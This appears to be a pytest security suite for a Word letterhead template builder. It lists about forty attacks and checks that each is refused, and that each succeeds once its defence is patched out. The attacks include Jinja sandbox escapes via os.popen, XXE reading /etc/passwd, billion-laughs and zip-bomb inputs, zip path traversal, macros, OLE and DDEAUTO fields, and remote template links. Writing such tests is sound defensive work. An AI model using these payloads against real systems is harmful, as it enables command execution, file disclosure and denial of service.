"""Attacks by letterhead: each is refused in one line, quickly and in little memory; each succeeds when its defence is taken out."""

from __future__ import annotations

import io
import re
import zipfile

import jinja2
import pytest
from lxml import etree

from build_tools import archive
from build_tools.word import package
from build_tools.word.letterheads import gate, letterhead, passive, rows, tags
from build_tools.word.letterheads.contract import REQUIRED
from tests.security.letterheads import (
    DOCUMENT,
    MEGABYTES,
    OFFICE,
    RELS,
    SECONDS,
    SETTINGS,
    TYPES,
    WORD_TYPE,
    Attack,
    beside,
    code,
    declared,
    instead,
    link,
    rels,
    tried,
    within,
)

# The defences. Where several stand behind one another, all are taken out.


def without_limits_of_tags() -> None:
    """… and without a look at the syntax tree: the sandbox alone is left."""
    tags.ALLOWED = re.compile(".*", re.DOTALL)
    without_a_look_at_the_syntax_tree()


def without_a_sandbox() -> None:
    without_limits_of_tags()
    tags.environment = jinja2.Environment


def without_a_look_at_the_syntax_tree() -> None:
    """What hides in an attribute is in no text."""
    tags.names = lambda xml: set(REQUIRED) if "{{ body }}" in xml else set()


def without_a_limit_of_many_tags() -> None:
    tags.MAX_TAGS = 10**9


def without_a_limit_of_text() -> None:
    tags.MAX_TEXT = 10**9


def without_a_limit_of_rows() -> None:
    rows.MAX_ROW = 10**9


def without_limits_of_the_zip() -> None:
    archive._problems = lambda entries: iter(())
    gate.MAX_XML = gate.MAX_ELEMENTS = 10**12


def without_a_limit_of_xml() -> None:
    tags.MAX_TEXT = gate.MAX_XML = gate.MAX_ELEMENTS = 10**12


def without_safe_xml() -> None:
    def parse(data: bytes):
        return etree.fromstring(data, etree.XMLParser(resolve_entities=True, load_dtd=True, huge_tree=True))

    gate._parse_or_refuse = lambda name, data: parse(data)
    gate.parse = package.parse = parse


def without_kinds_of_parts() -> None:
    gate.kinds_of_parts = lambda package: iter(())


def without_limits_of_links() -> None:
    gate.links = lambda package: iter(())


def without_kinds_and_links() -> None:
    without_kinds_of_parts()
    without_limits_of_links()


def without_a_look_at_elements() -> None:
    passive.active = lambda root: iter(())


def without_elements_and_links() -> None:
    without_a_look_at_elements()
    without_kinds_and_links()


def without_a_look_at_changes() -> None:
    passive.tracked = lambda root: iter(())


def without_limits_of_fields() -> None:
    passive.reaching_fields = lambda root: iter(())


def without_limits_of_addresses() -> None:
    passive.addresses = lambda root: iter(())


def without_words_for_what_breaks() -> None:
    """python-docx's own errors, as a traceback."""
    without_limits_of_links()
    letterhead.Exception = jinja2.TemplateError


def without_words_for_deep_tags() -> None:
    without_a_look_at_the_syntax_tree()
    letterhead.Exception = jinja2.TemplateError


# What attackers have in the finished file.


def says(words: str, part: str = DOCUMENT):
    return lambda parts: words if words in parts[part].decode("utf-8", "replace") else ""


def holds(name: str):
    return lambda parts: name if name in parts else ""


def points_to(target: str):
    return lambda parts: next((name for name, data in parts.items() if name.endswith(".rels") and target.encode() in data), "")


def larger_than(size: int):
    return lambda parts: len(parts[DOCUMENT]) if len(parts[DOCUMENT]) > size else 0


def is_taken(parts: dict[str, bytes]) -> str:
    """For what the finished file does not show."""
    return "the file is taken"


ATTACK = "{{ cycler.__init__.__globals__.os.popen('echo pwned-$((6*7))').read() }}"
GONE = "http://192.0.2.1/x"
LAUGHS = '<!DOCTYPE w:settings [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'


def entity(prefix: str, words: str):
    """A declared entity in a letterhead's text, in the place of a field."""
    return lambda xml: re.sub(r"^(<\?xml[^>]*\?>)", rf"\1{prefix}", xml).replace("{{ subtitle }}", words, 1)


def noise(size: int, words: str) -> str:
    """What hardly packs: ``words`` with a number in them, each with another."""
    return "".join(words % (n * 2654435761 % 2**32) for n in range(size))


def with_entry(name: str, data: bytes):
    """An entry that zipfile would not write by itself."""

    def change(packed: bytes) -> bytes:
        buffer = io.BytesIO(packed)
        with zipfile.ZipFile(buffer, "a") as target:
            target.writestr(zipfile.ZipInfo(name), data)
        return buffer.getvalue()

    return change


def attack(name: str, said: str, without, gain, **parts) -> Attack:
    raw = parts.pop("raw", lambda data: data)
    return Attack(name=name, says=said, parts={PLACES.get(key, key): value for key, value in parts.items()}, gain=gain, without=without, raw=raw)


PLACES = {"text": DOCUMENT, "rels": RELS, "types": TYPES, "settings": SETTINGS, "header": "word/header1.xml", "root": "_rels/.rels"}
HTML = b"<html><script>alert(1)</script></html>"
ATTACKS = [
    # Jinja
    attack("jinja-globals", "has the tag", without_a_sandbox, says("pwned-42"), text=instead(ATTACK)),
    attack("jinja-header", "has the tag", without_a_sandbox, says("pwned-42", "word/header1.xml"), header=instead(ATTACK, "{{ classification }}")),
    attack("jinja-split-runs", "has the tag", without_limits_of_tags, says("pwned-42"), text=instead("{</w:t></w:r><w:r><w:t>{ 'pwned-' ~ 6*7 }</w:t></w:r><w:r><w:t>}")),
    attack("jinja-attribute", "has a tag with", without_a_look_at_the_syntax_tree, says("pwned-42"),
           text=beside('<w:bookmarkStart w:id="7" w:name="{{ \'pwned-\' ~ 6*7 }}"/><w:bookmarkEnd w:id="7"/>')),
    attack("jinja-loop", "has the tag", without_limits_of_tags, larger_than(2_000_000), text=instead("{% for x in range(99999) %}aaaaaaaaaaaaaaaaaaaaa{% endfor %}")),
    attack("jinja-power", "has the tag", without_limits_of_tags, larger_than(2_000_000), text=instead("{{ 'a' * 3000000 }}")),
    attack("jinja-nested", "a tag that cannot be read", without_words_for_deep_tags, lambda parts: "",
           text=beside(f'<w:bookmarkStart w:id="7" w:name="{"{{ " * 120}"/><w:bookmarkEnd w:id="7"/>')),
    attack("jinja-quadratic", "too many tags", without_a_limit_of_many_tags, lambda parts: "", text=instead("{% " * 60_000)),
    attack("huge-output", "too many tags", without_a_limit_of_many_tags, lambda parts: parts[DOCUMENT].count(b"Rules &amp;") if parts[DOCUMENT].count(b"Rules &amp;") > 2000 else 0,
           text=instead("{{ title }} " * 4000)),
    attack("huge-text", "too much text", without_a_limit_of_text, larger_than(1_000_000), text=lambda xml: xml.replace("{{ subtitle }}", noise(150_000, "%x"))),
    attack("huge-row", "too large to be repeated", without_a_limit_of_rows, larger_than(100_000),
           text=lambda xml: re.sub(r"(<w:r><w:t[^>]*>{{ change_text }})", lambda found: f"<w:r><w:t>{noise(15_000, '%x')}</w:t></w:r>" + found[1], xml)),
    # the zip
    attack("zip-bomb", "unpacked it is larger than 40 MB", without_limits_of_the_zip, lambda parts: "", **{"word/big.xml": [b"<a>", *[b" " * 1_000_000] * 300, b"</a>"]}),
    attack("zip-many-parts", "parts", without_limits_of_the_zip, is_taken, **{f"word/p{n}.xml": b"<a/>" for n in range(500)}),
    attack("zip-traversal", "part name '../../evil.xml'", without_limits_of_the_zip, is_taken, raw=with_entry("../../evil.xml", b"<a/>")),
    attack("zip-twice", "is there twice", without_limits_of_the_zip, says("EVIL"), raw=with_entry("word/Document.xml", b"<a/>"), text=instead("EVIL")),
    attack("xml-elements", "MB of text and styles", without_a_limit_of_xml, lambda parts: "", **{"word/many.xml": lambda none: f"<a>{noise(1_500_000, '<b%x/>')}</a>"}),
    attack("xml-paragraphs", "15000 pieces of text", without_a_limit_of_xml, lambda parts: "",
           text=lambda xml: xml.replace("<w:sectPr>", noise(40_000, "<w:p><w:r><w:t>%x</w:t></w:r></w:p>") + "<w:sectPr>", 1)),
    # XML
    attack("xxe", "declares a document type", without_safe_xml, says("root:"), text=entity('<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;")),
    attack("billion-laughs", "declares a document type", without_safe_xml, says("a" * 1000), text=entity(LAUGHS, "&c;")),
    attack("doctype-utf16", "declares a document type", without_safe_xml, is_taken,
           **{"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}),
    # what Word runs
    attack("macros", "holds macros", without_kinds_and_links, holds("word/vbaProject.bin"), **{"word/vbaProject.bin": b"x"}, rels=link("vbaProject", "vbaProject.bin"),
           types=lambda xml: xml.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')),
    attack("ribbon", "a ribbon of its own", without_limits_of_links, holds("customUI/customUI.xml"), **{"customUI/customUI.xml": b'<customUI onLoad="x"/>'},
           root=link("", "customUI/customUI.xml", type_="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility")),
    attack("field-macro", "a form field with a macro", without_a_look_at_elements, says("entryMacro"),
           text=beside('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')),
    attack("ole-object", "an embedded object", without_elements_and_links, says("OLEObject"),
           text=beside('<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rIdEvil"/></w:object></w:r>'),
           rels=link("oleObject", "embeddings/x.bin"), **{"word/embeddings/x.bin": b"MZ"},
           types=lambda xml: xml.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>')),
    attack("activex", "an ActiveX control", without_elements_and_links, says("w:control"), text=beside('<w:r><w:object><w:control r:id="rIdEvil" w:name="c"/></w:object></w:r>'),
           rels=link("control", "header1.xml")),
    attack("alt-chunk", "a second document", without_elements_and_links, says("altChunk"),
           text=lambda xml: xml.replace("<w:sectPr>", '<w:altChunk r:id="rIdEvil"/><w:sectPr>', 1), rels=link("aFChunk", "x.html"), **{"word/x.html": HTML},
           types=lambda xml: xml.replace("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>')),
    # what Word fetches or gives away
    attack("attached-template", "an attached template", without_elements_and_links, points_to(GONE),
           settings=within('<w:attachedTemplate r:id="rIdEvil"/>'), **{"word/_rels/settings.xml.rels": rels("attachedTemplate", GONE, external=True)}),
    attack("remote-image", "loads something from outside", without_limits_of_links, points_to(GONE), rels=link("image", GONE, external=True)),
    attack("unc-image", "loads something from outside", without_limits_of_links, points_to("192.0.2.1"), rels=link("image", r"\\192.0.2.1\share\x.png", external=True)),
    attack("vml-source", "loads something from outside", without_limits_of_addresses, says(GONE),
           text=beside(f'<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{GONE}"/></v:rect></w:pict></w:r>')),
    attack("file-link", "loads something from outside", without_limits_of_links, points_to("file:///etc"), rels=link("hyperlink", "file:///etc/passwd", external=True)),
    attack("subdocument", "a subdocument", without_elements_and_links, points_to("x.docx"), text=beside('<w:subDoc r:id="rIdEvil"/>'), rels=link("subDocument", "x.docx", external=True)),
    attack("frames", "holds frames", without_limits_of_links, points_to(GONE), rels=link("frame", GONE, external=True)),
    attack("include-picture", "has a field 'INCLUDEPICTURE'", without_limits_of_fields, says("INC"), text=beside(code(f'INCLUDEPICTURE "{GONE}" \\d'))),
    attack("include-text", "has a field 'INCLUDETEXT'", without_limits_of_fields, says("LUDETEXT"), text=beside(code("INCLUDETEXT /etc/passwd"))),
    attack("dde", "has a field 'DDEAUTO'", without_limits_of_fields, says("DDEAUTO", "word/header1.xml"), header=beside('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
    attack("user-name", "has a field 'USERNAME'", without_limits_of_fields, says("RNAME"), text=beside(code("USERNAME"))),
    attack("unc-link", "has a link to", without_limits_of_fields, says("192.0.2.1"), text=beside(code(r'HYPERLINK "\\192.0.2.1\share"'))),
    attack("tracked-changes", "has tracked changes", without_a_look_at_changes, says("A. Person"),
           text=beside('<w:ins w:id="9" w:author="A. Person" w:date="2026-01-01T00:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins>')),
    # parts under a false name
    attack("hidden-header", "a part of a strange kind", without_kinds_and_links, says("pwned-42", "word/x.foo"),
           rels=link("header", "x.foo"), types=declared("word/x.foo", f"{WORD_TYPE}.header+xml"),
           **{"word/x.foo": b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>{{ \'pwned-\' ~ 6*7 }}</w:t></w:r></w:p></w:hdr>'}),
    attack("false-picture", "named as a picture and is none", without_kinds_of_parts, holds("word/media/x.png"), rels=link("image", "media/x.png"),
           types=lambda xml: xml.replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>'), **{"word/media/x.png": HTML}),
    attack("svg-script", "named as a picture and is none", without_kinds_of_parts, holds("word/media/x.svg"), rels=link("image", "media/x.svg"),
           types=lambda xml: xml.replace("</Types>", '<Default Extension="svg" ContentType="image/svg+xml"/></Types>'),
           **{"word/media/x.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}),
    attack("two-texts", "cannot be filled in", without_words_for_what_breaks, lambda parts: "", root=link("officeDocument", "word/header1.xml", type_=f"{OFFICE}/officeDocument")),
]
BY_NAME = {each.name: each for each in ATTACKS}


@pytest.mark.parametrize("name", BY_NAME)
def test_it_is_refused_in_one_line_in_time_and_memory(tmp_path, name):
    outcome = tried(BY_NAME[name], tmp_path, defended=True)
    assert outcome.gained == ""
    [said] = outcome.said
    assert said.startswith(f"templates/word/{name}.docx: letterhead ") and BY_NAME[name].says in said
    assert "\n" not in said and said.endswith(")") and len(said) < 700
    assert outcome.seconds < SECONDS and outcome.megabytes < MEGABYTES


@pytest.mark.parametrize("name", BY_NAME)
def test_without_its_defence_it_succeeds(tmp_path, name):
    outcome = tried(BY_NAME[name], tmp_path, defended=False)
    assert outcome.gained, outcome


def test_there_are_enough_and_every_defence_is_taken_out():
    assert len(BY_NAME) == len(ATTACKS) >= 20
    functions = {thing for name, thing in globals().items() if name.startswith("without_")}
    assert functions == {each.without for each in ATTACKS}
